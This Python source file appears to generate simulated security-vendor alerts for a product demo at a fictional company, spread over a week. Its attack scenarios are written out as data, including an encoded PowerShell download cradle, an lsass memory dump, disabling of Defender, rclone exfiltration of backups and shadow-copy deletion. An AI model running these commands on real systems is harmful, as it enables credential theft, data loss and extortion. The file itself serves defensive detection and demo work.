"""What has happened at the made-up company in the week before the demo, as tables."""

import hashlib
from collections.abc import Iterator
from datetime import datetime
from typing import Final, Literal, NamedTuple

import msgspec

from vyrox.models import Vendor
from vyrox.trial import company
from vyrox.trial.simulate.scenarios import scenario_of
from vyrox.trial.simulate.stages import Scenario, Stage, encoded
from vyrox.trial.simulate.vendors import as_sent_by

Decision = Literal["approve", "reject", "expire"]

_WS = company.WORKSTATION_12.at("crowdstrike")
_SQL = company.SQL_SRV_05.at("crowdstrike")
_MWEBER = r"CORP\mweber"
_KBAUER = r"CORP\adm-kbauer"
_SYSTEM = r"NT AUTHORITY\SYSTEM"

_LOADER = encoded(
    "-WindowStyle Hidden",
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.57/a')",
)

# fmt: off
EXTORTION: Final = Scenario("double-extortion", "crowdstrike", "Eight stages, mail to impact", (
    Stage("medium", "TA0001", "T1566.001", _WS, _MWEBER,
          r'EXCEL.EXE "C:\Users\mweber\Downloads\Offer 7731.xlsm"'),
    Stage("high", "TA0002", "T1059.001", _WS, _MWEBER,
          _LOADER),
    Stage("medium", "TA0003", "T1547.001", _WS, _MWEBER,
          r"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OneSync"
          r" /d C:\ProgramData\onesync.exe /f"),
    Stage("high", "TA0005", "T1562.001", _WS, _SYSTEM,
          "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true"),
    Stage("critical", "TA0006", "T1003.001", _WS, _SYSTEM,
          r"procdump64.exe -accepteula -ma lsass.exe C:\ProgramData\l.dmp"),
    Stage("high", "TA0008", "T1021.002", _WS, _KBAUER,
          r"PsExec64.exe \\sql-srv-05 -accepteula -s -d cmd.exe /c C:\Windows\Temp\s.cmd"),
    Stage("high", "TA0010", "T1567.002", _SQL, _SYSTEM,
          r"C:\ProgramData\rclone.exe copy E:\Backup mega:acme --transfers 16"),
    Stage("critical", "TA0040", "T1490", _SQL, _SYSTEM,
          "vssadmin.exe delete shadows /all /quiet"),
))
"""An attack in eight stages, from initial access to impact. Its proposal waits for a decision."""

_ODDITIES = (
    Stage("low", "TA0002", "T1204.002", _WS, _MWEBER,
          r"C:\Users\Public\Downloads\FreePdfSetup.exe /silent"),
    Stage("medium", "TA0007", "T1069.002", _WS, _MWEBER,
          'net.exe group "Domain Admins" /domain'),
    Stage("medium", "TA0005", "T1140", _WS, _MWEBER,
          r"certutil.exe -hashfile C:\Users\Public\Downloads\driver.zip SHA256"),
    Stage("low", "TA0007", "T1033", _WS, _MWEBER,
          "whoami.exe /all"),
    Stage("medium", "TA0002", "T1059.005", _WS, _MWEBER,
          r"wscript.exe \\file-srv-02\netlogon\printers.vbs"),
    Stage("medium", "TA0005", "T1218.005", _WS, _MWEBER,
          r"mshta.exe http://intranet.acme.local/phonebook.hta"),
    Stage("low", "TA0007", "T1016", _WS, _MWEBER,
          "ipconfig.exe /all"),
)
# fmt: on

EXTORTION_AGO_MINUTES: Final = (47, 45, 41, 36, 31, 22, 9, 4)
"""When the stages of EXTORTION happened, before the end of the demo."""

_PEOPLE: Final = (
    ("workstation-02", "abecker"),
    ("workstation-03", "tlang"),
    ("workstation-04", "cfischer"),
    ("workstation-05", "phoffmann"),
    ("workstation-06", "skrause"),
    ("workstation-08", "dmeyer"),
    ("workstation-09", "lvogel"),
    ("laptop-14", "jroth"),
    ("laptop-15", "efrank"),
    ("laptop-16", "bkeller"),
)
_VENDORS: Final[tuple[Vendor, ...]] = ("crowdstrike", "defender", "sentinelone")


class Sent(NamedTuple):
    """A run of detections that a vendor sent in this week.

    Attributes:
        at: When the first one happened, in Unix seconds.
        decision: What becomes of the proposal that follows; None: nothing is proposed.
        after_s: How long the person takes to decide.
    """

    at: float
    scenario: Scenario
    decision: Decision | None = None
    after_s: float = 0.0


_ATTACKS: Final = {
    1: (14, 22, "encoded-powershell", "reject", 140.0),
    2: (3, 8, "ransomware", "approve", 410.0),
    4: (16, 41, "mimikatz", "approve", 95.0),
    6: (22, 15, "ransomware-precursor", "expire", 0.0),
}
"""By day: hour, minute, scenario, and what becomes of its proposal."""


def happenings(first_day: datetime, until: float) -> Iterator[Sent]:
    """Yield what was sent from midnight of a day (UTC) until a time, in order."""
    found: list[Sent] = []
    day, number = first_day.timestamp(), 0
    while day < until:
        found += _of_day(day, number, is_weekend=(first_day.weekday() + number) % 7 > 4)
        day, number = day + 86_400, number + 1
    yield from sorted((each for each in found if each.at < until), key=lambda each: each.at)


def _of_day(day: float, number: int, *, is_weekend: bool) -> Iterator[Sent]:
    yield Sent(day + 2 * 3600 + 240, scenario_of("backup", "crowdstrike"))
    if attack := _ATTACKS.get(number):
        hour, minute, name, decision, after_s = attack
        at = day + hour * 3600 + minute * 60
        yield Sent(at, scenario_of(name), decision, after_s)  # type: ignore[arg-type]
    for place in range(2 if is_weekend else 6 + number % 3):
        where = number * 7 + place
        vendor = _VENDORS[where % 3]
        at = day + 7 * 3600 + place * 4700 + (where * 397) % 3600
        yield Sent(at, _by_person(where, _oddity(where), vendor))
    if not is_weekend:
        yield Sent(day + 10 * 3600 + number * 500, _deployment(number))


def _oddity(where: int) -> Scenario:
    return Scenario("oddity", "crowdstrike", "", (_ODDITIES[where % len(_ODDITIES)],))


def _deployment(number: int) -> Scenario:
    rollout = scenario_of("software-deployment", "crowdstrike")
    return _on(_PEOPLE[number % len(_PEOPLE)][0], rollout, _VENDORS[number % 2])


def _by_person(where: int, scenario: Scenario, vendor: Vendor) -> Scenario:
    host, user = _PEOPLE[where % len(_PEOPLE)]
    stages = [msgspec.structs.replace(each, username=rf"CORP\{user}") for each in scenario.stages]
    return _on(host, msgspec.structs.replace(scenario, stages=tuple(stages)), vendor)


def _on(name: str, scenario: Scenario, vendor: Vendor) -> Scenario:
    """Return a scenario as a vendor reports it on another computer of the company."""
    sent = as_sent_by(vendor, scenario)
    computer = _computer(name).at(vendor)
    stages = (msgspec.structs.replace(each, host=computer) for each in sent.stages)
    return msgspec.structs.replace(sent, stages=tuple(stages))


def _computer(name: str) -> company.Computer:
    """Return a computer that the vendors' mocks need not know: nothing is done to it."""
    digits = hashlib.sha256(name.encode()).hexdigest()
    aid = "-".join((digits[:8], digits[8:12], digits[12:16], digits[16:20], digits[20:32]))
    return company.Computer(name, aid, str(int(digits[:15], 16)), digits[:40], f"asset-{name}")


def hosts(sent: Sent) -> set[str]:
    """Return the hosts that it names."""
    return {stage.host.name for stage in sent.scenario.stages}
